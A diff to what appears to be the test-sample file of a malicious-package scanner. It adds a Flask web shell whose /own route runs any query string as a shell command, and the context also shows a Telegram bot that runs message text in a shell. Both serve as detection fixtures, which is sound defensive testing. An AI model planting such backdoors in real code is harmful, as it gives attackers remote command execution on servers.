@@ -63,6 +63,13 @@ export const samples: Samples = {
       expected: [{ rule: 'hidden-address', file: 'own/__init__.py', line: 3, severity: 'high' }],
     },
     {
+      name: 'Python: a page that runs what it is asked',
+      files: wheel(
+        "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/own')\ndef own():\n    return subprocess.Popen(request.args.get('q'), shell=True, stdout=subprocess.PIPE).stdout.read()\n",
+      ),
+      expected: [at('remote-command', 'high', 6, 'own/__init__.py')],
+    },
+    {
       name: 'Python: a bot that runs what it is told',
       files: wheel(
         'import subprocess, telebot\nbot = telebot.TeleBot(KEY)\n@bot.message_handler(func=lambda m: True)\ndef run(message):\n    bot.reply_to(message, subprocess.check_output(message.text, shell=True))\n',
